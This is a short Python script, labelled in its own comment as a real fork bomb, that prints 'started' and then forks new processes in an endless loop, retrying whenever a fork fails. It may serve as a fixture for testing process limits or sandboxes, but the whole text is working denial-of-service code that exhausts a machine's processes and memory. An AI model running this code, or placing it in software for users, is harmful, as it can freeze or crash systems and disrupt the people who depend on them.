# A real fork bomb: every process forks forever.
import os, sys, time
print("started", flush=True)
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
